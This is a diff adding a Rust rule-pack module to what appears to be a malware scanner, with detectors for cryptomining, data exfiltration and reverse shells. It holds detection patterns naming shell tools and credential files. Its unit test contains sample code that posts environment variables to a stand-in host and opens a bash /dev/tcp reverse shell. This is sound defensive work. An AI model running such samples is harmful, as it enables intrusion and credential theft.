@@ -0,0 +1,387 @@
+use regex::Regex;
+use std::sync::OnceLock;
+use tree_sitter::{Node, Tree};
+
+use crate::config::RulePacksConfig;
+use crate::llm_client::FlaggedPattern;
+use crate::static_rules::{flag, path_matches, string_value, text};
+
+/// A group of rules for one kind of malicious behavior, turned on and off
+/// together under `[scanner.rule_packs]`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RulePack {
+    Cryptomining,
+    Exfiltration,
+    ReverseShell,
+}
+
+impl RulePack {
+    pub fn label(self) -> &'static str {
+        match self {
+            RulePack::Cryptomining => "Cryptomining",
+            RulePack::Exfiltration => "Data exfiltration",
+            RulePack::ReverseShell => "Reverse shell",
+        }
+    }
+}
+
+/// A rule pack rule. Its id never changes, so reports, SARIF and
+/// suppressions can refer to it.
+pub struct Rule {
+    pub id: &'static str,
+    pub pack: RulePack,
+    pub severity: &'static str,
+    pub description: &'static str,
+}
+
+pub const RULES: &[Rule] = &[
+    Rule {
+        id: "RR-MINE-001",
+        pack: RulePack::Cryptomining,
+        severity: "High",
+        description: "Connects to a cryptomining pool (stratum URL)",
+    },
+    Rule {
+        id: "RR-MINE-002",
+        pack: RulePack::Cryptomining,
+        severity: "High",
+        description: "Embeds a Monero wallet address, typical of cryptomining malware",
+    },
+    Rule {
+        id: "RR-MINE-003",
+        pack: RulePack::Cryptomining,
+        severity: "Medium",
+        description: "Embeds a Bitcoin or Ethereum wallet address",
+    },
+    Rule {
+        id: "RR-MINE-004",
+        pack: RulePack::Cryptomining,
+        severity: "High",
+        description: "References cryptomining software or algorithms",
+    },
+    Rule {
+        id: "RR-EXFIL-001",
+        pack: RulePack::Exfiltration,
+        severity: "High",
+        description: "Exfiltration: collects environment variables and sends data over the network",
+    },
+    Rule {
+        id: "RR-EXFIL-002",
+        pack: RulePack::Exfiltration,
+        severity: "High",
+        description: "Exfiltration: reads credential files and sends data over the network",
+    },
+    Rule {
+        id: "RR-SHELL-001",
+        pack: RulePack::ReverseShell,
+        severity: "High",
+        description: "Contains a reverse shell command",
+    },
+    Rule {
+        id: "RR-SHELL-002",
+        pack: RulePack::ReverseShell,
+        severity: "High",
+        description: "Reverse shell: wires a spawned process to a network socket",
+    },
+];
+
+/// Rules matched against the contents of string literals.
+const STRING_PATTERNS: &[(&str, &str)] = &[
+    ("RR-MINE-001", r"(?i)stratum\+(?:tcp|ssl|tls)://"),
+    ("RR-MINE-002", r"\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b"),
+    // The whole literal, since shorter base58 and hex strings are common
+    (
+        "RR-MINE-003",
+        r"^(?:bc1[02-9ac-hj-np-z]{39,59}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|0x[0-9a-fA-F]{40})$",
+    ),
+    (
+        "RR-MINE-004",
+        r"(?i)\b(?:xmrig|cryptonight|randomx|minerd|cpuminer|ethminer|nicehash)\b|--donate-level",
+    ),
+    (
+        "RR-SHELL-001",
+        r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bn(?:c|cat)\b.*\s-[ec]\s|\bmkfifo\b.*\bnc\b|\bsocat\b.*\bexec:",
+    ),
+];
+
+/// `env::var` names that hold secrets.
+const SECRET_VARIABLE_MARKERS: &[&str] = &[
+    "TOKEN",
+    "SECRET",
+    "PASSWORD",
+    "API_KEY",
+    "PRIVATE_KEY",
+    "CREDENTIAL",
+    "AWS_",
+];
+
+/// Paths of files that hold credentials or wallets.
+const CREDENTIAL_FILES: &[&str] = &[
+    ".ssh/",
+    ".aws/credentials",
+    ".git-credentials",
+    ".cargo/credentials",
+    ".npmrc",
+    ".pypirc",
+    ".docker/config.json",
+    ".kube/config",
+    ".gnupg",
+    "wallet.dat",
+    "Login Data",
+];
+
+/// Calls that send data over the network.
+const NETWORK_CALLS: &[&str] = &[
+    "TcpStream::connect",
+    "UdpSocket::bind",
+    "reqwest::get",
+    "blocking::get",
+    "Client::new",
+    "Client::builder",
+    "ureq::get",
+    "ureq::post",
+    "ureq::put",
+    "ureq::agent",
+];
+
+/// Methods of HTTP clients and sockets that send data.
+const NETWORK_METHODS: &[&str] = &[
+    "post",
+    "put",
+    "send_to",
+    "send_json",
+    "send_form",
+    "send_bytes",
+];
+
+/// Programs that send data when spawned.
+const NETWORK_PROGRAMS: &[&str] = &["curl", "wget", "nc", "ncat"];
+
+/// Calls and methods that hand a socket to a process as its input or output.
+const FD_WIRING: &[&str] = &["from_raw_fd", "as_raw_fd", "into_raw_fd", "Stdio::from"];
+
+pub fn rule(id: &str) -> Option<&'static Rule> {
+    RULES.iter().find(|rule| rule.id == id)
+}
+
+fn string_regexes() -> &'static [(&'static Rule, Regex)] {
+    static REGEXES: OnceLock<Vec<(&'static Rule, Regex)>> = OnceLock::new();
+    REGEXES.get_or_init(|| {
+        STRING_PATTERNS
+            .iter()
+            .map(|(id, pattern)| {
+                (
+                    rule(id).expect("rule for string pattern"),
+                    Regex::new(pattern).expect("valid rule pack pattern"),
+                )
+            })
+            .collect()
+    })
+}
+
+/// Runs the enabled rule packs over a parsed Rust file.
+pub fn scan_tree(tree: &Tree, source: &str, packs: &RulePacksConfig) -> Vec<FlaggedPattern> {
+    let mut patterns = Vec::new();
+    visit(tree.root_node(), source, packs, &mut patterns);
+    patterns
+}
+
+fn visit(node: Node, source: &str, packs: &RulePacksConfig, patterns: &mut Vec<FlaggedPattern>) {
+    match node.kind() {
+        "string_literal" | "raw_string_literal" => {
+            let value = string_value(node, source);
+            if let Some((rule, _)) = string_regexes()
+                .iter()
+                .find(|(rule, regex)| packs.enabled(rule.pack) && regex.is_match(value))
+            {
+                patterns.push(rule_flag(node, source, rule));
+            }
+        }
+        "function_item" => {
+            let behavior = Behavior::of(node, source);
+            let mut matched = Vec::new();
+            if behavior.network && behavior.reads_secret_variables {
+                matched.push("RR-EXFIL-001");
+            }
+            if behavior.network && behavior.reads_credential_files {
+                matched.push("RR-EXFIL-002");
+            }
+            if behavior.connects_socket && behavior.spawns_process && behavior.wires_fds {
+                matched.push("RR-SHELL-002");
+            }
+            for rule in matched.into_iter().filter_map(rule) {
+                if packs.enabled(rule.pack) {
+                    patterns.push(rule_flag(node, source, rule));
+                }
+            }
+        }
+        _ => {}
+    }
+
+    let mut cursor = node.walk();
+    for child in node.children(&mut cursor) {
+        visit(child, source, packs, patterns);
+    }
+}
+
+fn rule_flag(node: Node, source: &str, rule: &Rule) -> FlaggedPattern {
+    let mut pattern = flag(node, source, rule.severity, rule.description);
+    pattern.rule = Some(rule.id.to_string());
+    pattern
+}
+
+/// What one function does, as far as the behavioral rules are concerned.
+#[derive(Debug, Default)]
+struct Behavior {
+    reads_secret_variables: bool,
+    reads_credential_files: bool,
+    network: bool,
+    connects_socket: bool,
+    spawns_process: bool,
+    wires_fds: bool,
+}
+
+impl Behavior {
+    fn of(function: Node, source: &str) -> Self {
+        let mut behavior = Behavior::default();
+        if let Some(body) = function.child_by_field_name("body") {
+            behavior.collect(body, source);
+        }
+        behavior
+    }
+
+    fn collect(&mut self, node: Node, source: &str) {
+        match node.kind() {
+            // Nested functions are judged on their own
+            "function_item" => return,
+            "call_expression" => self.call(node, source),
+            "string_literal" | "raw_string_literal" => {
+                let value = string_value(node, source);
+                if CREDENTIAL_FILES.iter().any(|file| value.contains(file)) {
+                    self.reads_credential_files = true;
+                }
+            }
+            _ => {}
+        }
+        let mut cursor = node.walk();
+        for child in node.children(&mut cursor) {
+            self.collect(child, source);
+        }
+    }
+
+    fn call(&mut self, node: Node, source: &str) {
+        let Some(function) = node.child_by_field_name("function") else {
+            return;
+        };
+        let arguments = node
+            .child_by_field_name("arguments")
+            .map_or("", |arguments| text(arguments, source));
+        if function.kind() == "field_expression" {
+            let method = function
+                .child_by_field_name("field")
+                .map_or("", |field| text(field, source));
+            self.network |= NETWORK_METHODS.contains(&method);
+            self.wires_fds |= FD_WIRING.contains(&method);
+            return;
+        }
+        let path: String = text(function, source)
+            .chars()
+            .filter(|c| !c.is_whitespace())
+            .collect();
+        let calls = |rule_path: &str| path_matches(&path, rule_path);
+        if calls("env::vars") || calls("env::vars_os") {
+            self.reads_secret_variables = true;
+        }
+        if (calls("env::var") || calls("env::var_os"))
+            && SECRET_VARIABLE_MARKERS
+                .iter()
+                .any(|marker| arguments.to_ascii_uppercase().contains(marker))
+        {
+            self.reads_secret_variables = true;
+        }
+        if NETWORK_CALLS.iter().any(|network| calls(network)) {
+            self.network = true;
+        }
+        if calls("TcpStream::connect") {
+            self.connects_socket = true;
+        }
+        if calls("Command::new") {
+            self.spawns_process = true;
+            let program = arguments.trim_matches(['(', ')', '"']);
+            let program = program.rsplit('/').next().unwrap_or(program);
+            if NETWORK_PROGRAMS.contains(&program) {
+                self.network = true;
+            }
+        }
+        if FD_WIRING.iter().any(|wiring| calls(wiring)) {
+            self.wires_fds = true;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_rule_packs() {
+        let source = r#"
+const POOL: &str = "stratum+tcp://pool.example.com:3333";
+const WALLET: &str = "0x52908400098527886E0F7030069857D2E4169EE7";
+const NOT_A_WALLET: &str = "0x52908400098527886E0F7030069857D2E4169EE7 and more";
+
+fn report() {
+    let secrets: Vec<(String, String)> = std::env::vars().collect();
+    let client = reqwest::blocking::Client::new();
+    client.post("https://collect.example.com").json(&secrets).send().ok();
+}
+
+fn greet() {
+    let name = std::env::var("USER").unwrap_or_default();
+    reqwest::blocking::get(format!("https://example.com/hello/{}", name)).ok();
+}
+
+fn shell() {
+    let stream = TcpStream::connect("10.0.0.1:4444").unwrap();
+    let fd = stream.as_raw_fd();
+    Command::new("/bin/sh")
+        .stdin(unsafe { Stdio::from_raw_fd(fd) })
+        .spawn()
+        .unwrap();
+    let _ = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+}
+"#;
+        let mut parser = tree_sitter::Parser::new();
+        parser.set_language(tree_sitter_rust::language()).unwrap();
+        let tree = parser.parse(source, None).unwrap();
+
+        let found = |packs: &RulePacksConfig| -> Vec<(usize, String)> {
+            scan_tree(&tree, source, packs)
+                .into_iter()
+                .map(|p| (p.line, p.rule.unwrap()))
+                .collect()
+        };
+        let all = found(&RulePacksConfig::default());
+        let expected = [
+            (2, "RR-MINE-001"),
+            (3, "RR-MINE-003"),
+            (6, "RR-EXFIL-001"),
+            (17, "RR-SHELL-002"),
+            (24, "RR-SHELL-001"),
+        ];
+        assert_eq!(
+            all,
+            expected
+                .iter()
+                .map(|(line, id)| (*line, id.to_string()))
+                .collect::<Vec<_>>()
+        );
+
+        let without_mining = RulePacksConfig {
+            cryptomining: Some(false),
+            ..RulePacksConfig::default()
+        };
+        assert_eq!(found(&without_mining).len(), 3);
+        assert_eq!(rule("RR-SHELL-002").unwrap().pack, RulePack::ReverseShell);
+    }
+}